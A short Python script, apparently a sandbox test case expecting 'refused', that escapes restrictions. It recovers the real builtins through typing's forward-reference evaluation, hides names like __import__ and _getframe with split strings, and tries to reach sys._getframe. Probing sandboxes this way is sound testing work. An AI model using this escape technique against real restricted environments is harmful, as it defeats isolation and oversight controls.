# frame: sys._getframe from the program (refused)
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

s = rb["__imp" + "ort__"]("sy" + "s")
try:
    f = ga(s, "_getfr" + "ame")(0)
    print(M, f)
except Exception as e:
    print("refused:", type(e).__name__, e)
